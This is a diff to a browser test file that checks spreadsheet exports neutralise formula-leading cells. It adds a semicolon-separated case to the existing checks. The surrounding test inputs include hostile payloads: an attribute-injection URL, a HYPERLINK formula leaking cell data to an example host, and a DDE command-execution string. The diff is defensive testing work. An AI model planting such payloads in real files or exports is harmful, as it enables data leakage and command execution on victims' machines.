@@ -14,6 +14,7 @@ const TEXTS: readonly (string | null)[] = [
   "https://example.org/\"onmouseover=globalThis.pwned=1 x='",
   `=HYPERLINK("https://example.org?leak="&A1,"click")`,
   "@SUM(1+1)*cmd|' /C calc'!A0",
+  "cut;=1+1",
   "שלום עולם, مرحبا",
   `${RIGHT_TO_LEFT_MARK}txt.exe`,
   "a\u200bb\u200dc\ufeff",
@@ -154,8 +155,11 @@ test("hostile cells run nothing and break nothing in any view or export", async 
     expect(download.suggestedFilename()).not.toMatch(/[<>"=]/);
     const text = readFileSync(await download.path(), "utf8");
     expect(text.length).toBeGreaterThan(MEGABYTE);
-    // In the file for spreadsheets no cell begins as a formula does.
-    if (format.source.includes("spreadsheets")) expect(text).not.toMatch(/(?:^|,|\n)"?[=@]/);
+    // In the file for spreadsheets no cell begins as a formula does, whatever separates the cells.
+    if (format.source.includes("spreadsheets")) {
+      expect(text).not.toMatch(/(?:^|[,;\n])"?[=@]/);
+      expect(text).toContain("cut;'=1+1");
+    }
     await expect(dialog.getByText("The export is complete", { exact: false })).toBeVisible({
       timeout: 60_000,
     });
